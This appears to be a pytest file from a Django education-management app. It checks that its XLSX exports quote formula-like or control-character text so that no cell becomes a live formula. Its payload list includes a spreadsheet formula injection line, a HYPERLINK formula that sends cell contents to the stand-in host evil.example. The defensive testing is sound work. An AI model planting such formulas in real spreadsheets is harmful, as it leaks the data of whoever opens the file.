"""Every XLSX a user can download, filled with text that tries to be a formula or carries a
control character: each file opens, no cell is a formula and the text arrives quoted."""

from datetime import date, timedelta
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from profrost.core.exporters import FORMULA_PREFIXES, XLSX_CONTENT_TYPE
from profrost.core.roles import Role
from profrost.datarequests.models import FieldKind, RecipientStatus, RequestAnswer
from profrost.diagnostics import services as diagnostics
from profrost.diagnostics.models import ResultSource
from profrost.monitoring import services as monitoring
from profrost.monitoring.models import MonitoringPeriod, Target
from tests import factories
from tests.achievements.factories import (
    CompetitionFactory,
    ParticipationFactory,
    PublicationFactory,
)
from tests.datarequests.world import build_request
from tests.network.factories import EventFactory, WorkPlanFactory
from tests.network.factories import ParticipationFactory as EventParticipationFactory
from tests.programs.factories import RequestFactory
from tests.staffing.factories import VacancyFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Открыть")'
# What users type → how the cell must read.
PAYLOADS = {
    HYPERLINK: "'" + HYPERLINK,
    "+79000000001": "'+79000000001",
    "-Минусова": "'-Минусова",
    "@Собакина": "'@Собакина",
    "\tТабова": "'\tТабова",
    "\rВозвратова": "'\rВозвратова",
    "Звон\x07кова": "Звонкова",
}
TODAY = date.today()


@pytest.fixture
def world(two_orgs, region):
    """A school and a teacher per payload in «Город А», both named with it, and the logins."""
    staff = []
    for payload in PAYLOADS:
        organization = factories.OrganizationFactory(
            municipality=two_orgs["mun_a"], short_name=payload, name=payload, address=payload
        )
        person = factories.EmploymentFactory(
            organization=organization, person__last_name=payload
        ).person
        staff.append((payload, organization, person))
    return {
        **two_orgs,
        "region": region,
        "staff": staff,
        "regional_admin": factories.user_with_role(Role.REGIONAL_ADMIN, region),
        "regional_methodist": factories.user_with_role(Role.REGIONAL_METHODIST, region),
        "municipal_methodist": factories.user_with_role(
            Role.MUNICIPAL_METHODIST, two_orgs["mun_a"]
        ),
    }


# One builder per export: it fills the export's text with the payloads and returns the user
# who may download it and the URL.


def registry_people(world):
    return world["regional_admin"], "/registry/people/?export=xlsx"


def registry_organizations(world):
    return world["regional_admin"], "/registry/organizations/?export=xlsx"


def publications(world):
    for payload, organization, person in world["staff"]:
        PublicationFactory(person=person, organization=organization, title=payload, edition=payload)
    return world["regional_admin"], "/achievements/publications/?export=xlsx"


def competition_participants(world):
    competition = CompetitionFactory(title="Учитель года", region=world["region"])
    for payload, organization, person in world["staff"]:
        ParticipationFactory(
            competition=competition, person=person, organization=organization, nomination=payload
        )
    return world["regional_admin"], f"/achievements/competitions/{competition.pk}/?export=xlsx"


def portfolio(world):
    _payload, organization, person = world["staff"][0]
    for payload in PAYLOADS:
        PublicationFactory(person=person, organization=organization, title=payload, edition=payload)
    return world["regional_admin"], f"/achievements/people/{person.pk}/portfolio/?export=xlsx"


def network_events(world):
    for payload, organization, _person in world["staff"]:
        EventFactory(title=payload, place=payload, organizer_organization=organization)
    return world["regional_admin"], "/network/events/?export=xlsx"


def registration_list(world):
    event = EventFactory(title=HYPERLINK, place=HYPERLINK, organizer_organization=world["org_a"])
    for _payload, organization, person in world["staff"]:
        EventParticipationFactory(event=event, person=person, organization=organization)
    return world["municipal_methodist"], f"/network/events/{event.pk}/registration-list/"


def work_plan(world):
    plan = WorkPlanFactory(title=HYPERLINK, municipality=world["mun_a"])
    for payload, organization, _person in world["staff"]:
        EventFactory(plan=plan, title=payload, place=payload, organizer_organization=organization)
    return world["municipal_methodist"], f"/network/plans/{plan.pk}/xlsx/"


def computed_period(world, titles=("2026",)):
    """Results for the staff and a computed regional period per title, one month each; the
    last one is returned."""
    competence = factories.CompetenceFactory(code="M.1")
    for _payload, organization, person in world["staff"]:
        diagnostics.record_result(
            person=person,
            organization_id=organization.pk,
            competence_id=competence.pk,
            measured_on=date(2026, 1, 10),
            score=Decimal(1),
            max_score=Decimal(2),
            level="partial",
            source=ResultSource.IMPORT,
            source_title=HYPERLINK,
        )
    for month, title in enumerate(titles, start=1):
        period = MonitoringPeriod.objects.create(
            title=title,
            level="region",
            region=world["region"],
            starts_on=date(2026, month, 1),
            ends_on=date(2026, month, 28),
        )
        monitoring.compute_period(period, by=None)
    return period


def monitoring_dashboard(world):
    period = computed_period(world, titles=PAYLOADS)
    return world["regional_admin"], f"/monitoring/?period={period.pk}&export=xlsx"


def monitoring_ranking(world):
    period = computed_period(world)
    return world["regional_admin"], (
        f"/monitoring/periods/{period.pk}/ranking/?indicator=diagnosed_share"
        f"&scope=municipality:{world['mun_a'].pk}&export=xlsx"
    )


def monitoring_drill(world):
    period = computed_period(world)
    return world["regional_admin"], (
        f"/monitoring/periods/{period.pk}/drill/?indicator=diagnosed_share"
        f"&level=municipality&scope={world['mun_a'].pk}&part=numerator&export=xlsx"
    )


def monitoring_targets(world):
    for _payload, organization, _person in world["staff"]:
        Target.objects.create(
            indicator="diagnosed_share",
            year=2026,
            region=world["region"],
            organization=organization,
            value=Decimal(-5),
        )
    return world["regional_admin"], "/monitoring/targets/?year=2026&export=xlsx"


def record_results(world):
    competences = [
        factories.CompetenceFactory(code=f"X.{number}", name=payload)
        for number, payload in enumerate(PAYLOADS)
    ]
    for _payload, organization, person in world["staff"]:
        for competence in competences:
            diagnostics.record_result(
                person=person,
                organization_id=organization.pk,
                competence_id=competence.pk,
                measured_on=TODAY - timedelta(days=10),
                score=Decimal(30),
                max_score=Decimal(100),
                level="deficit",
                source=ResultSource.IMPORT,
                source_title=competence.name,
            )


def deficit_summary(world):
    record_results(world)
    return world["municipal_methodist"], "/diagnostics/summary/?export=xlsx"


def deficit_map(world):
    record_results(world)
    person = world["staff"][0][2]
    return world["regional_admin"], f"/diagnostics/people/{person.pk}/map/?export=xlsx"


def campaign_participants(world):
    campaign = factories.CampaignFactory(title=HYPERLINK, region=world["region"])
    for _payload, organization, person in world["staff"]:
        factories.AttemptFactory(campaign=campaign, person=person, organization=organization)
    return world["regional_methodist"], f"/diagnostics/campaigns/{campaign.pk}/?export=xlsx"


def campaign_list(world):
    for payload in PAYLOADS:
        instrument = factories.InstrumentFactory(title=payload)
        factories.CampaignFactory(title=payload, instrument=instrument, region=world["region"])
    return world["regional_methodist"], "/diagnostics/campaigns/?export=xlsx"


def instrument_export(world):
    competence = factories.CompetenceFactory(code="X.MET")
    instrument = factories.InstrumentFactory(
        title=HYPERLINK, description="-описание", region=world["region"], status="draft"
    )
    for payload in PAYLOADS:
        item = factories.choice_item(instrument, [competence], text=payload)
        item.hint = payload
        item.save()
        item.options.update(text=payload)
    return world["regional_methodist"], f"/diagnostics/instruments/{instrument.pk}/export/"


def staffing_summary(world):
    for _payload, organization, _person in world["staff"]:
        VacancyFactory(organization=organization)
    return world["regional_admin"], "/staffing/summary/?export=xlsx&table=organizations"


def vacancy_list(world):
    for payload, organization, _person in world["staff"]:
        VacancyFactory(organization=organization, contact=payload)
    return world["regional_admin"], "/staffing/?export=xlsx"


def datarequest_summary(world):
    organizations = [organization for _payload, organization, _person in world["staff"]]
    fields = [(payload, FieldKind.TEXT, {"required": False}) for payload in PAYLOADS]
    data_request = build_request(
        world["municipal_methodist"], organizations, municipality=world["mun_a"], fields=fields
    )
    for recipient in data_request.recipients.all():
        for field, payload in zip(data_request.fields.order_by("order"), PAYLOADS, strict=True):
            RequestAnswer.objects.create(recipient=recipient, field=field, text=payload)
    data_request.recipients.update(status=RecipientStatus.SUBMITTED, submitted_at=timezone.now())
    return world["municipal_methodist"], f"/requests/{data_request.pk}/summary/?export=xlsx"


def program_requests(world):
    for payload, organization, _person in world["staff"]:
        RequestFactory(organization=organization, direction=payload, headcount=2)
    return world["regional_admin"], "/programs/requests/summary/?export=xlsx"


def competence_list(world):
    for number, payload in enumerate(PAYLOADS):
        group = factories.CompetenceGroupFactory(code=f"evil-{number}", name=payload)
        factories.CompetenceFactory(code=f"E.{number}", name=payload, group=group)
    return world["regional_admin"], "/competences/?export=xlsx"


EXPORTS = [
    registry_people,
    registry_organizations,
    publications,
    competition_participants,
    portfolio,
    network_events,
    registration_list,
    work_plan,
    monitoring_dashboard,
    monitoring_ranking,
    monitoring_drill,
    monitoring_targets,
    deficit_summary,
    deficit_map,
    campaign_participants,
    campaign_list,
    instrument_export,
    staffing_summary,
    vacancy_list,
    datarequest_summary,
    program_requests,
    competence_list,
]


def text_cells(content):
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("build", EXPORTS, ids=[build.__name__ for build in EXPORTS])
def test_export_writes_formula_like_text_as_quoted_text(client, world, build):
    user, url = build(world)
    client.force_login(user)

    response = client.get(url)

    assert (response.status_code, response["Content-Type"]) == (200, XLSX_CONTENT_TYPE)
    cells = text_cells(response.content)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [cell.coordinate for cell in cells if cell.data_type not in ("s", "n", "d")] == []
    assert [text for text in texts if text.startswith(FORMULA_PREFIXES)] == []
    assert [text for text in texts if ILLEGAL_CHARACTERS_RE.search(text)] == []
    missing = [
        written
        for written in PAYLOADS.values()
        if not any(text.startswith(written) for text in texts)
    ]
    assert missing == []
